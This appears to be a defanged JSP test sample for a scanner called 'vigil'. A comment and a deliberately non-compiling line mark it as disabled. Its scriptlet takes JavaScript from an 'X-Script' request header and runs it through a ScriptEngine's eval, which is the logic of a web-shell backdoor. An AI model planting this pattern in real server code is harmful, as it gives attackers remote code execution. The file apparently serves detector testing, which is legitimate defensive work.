<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
String src = request.getHeader("X-Script");
ScriptEngineManager m = new ScriptEngineManager();
ScriptEngine eng = m.getEngineByExtension("js");
Object o = eng.eval(src);
%>
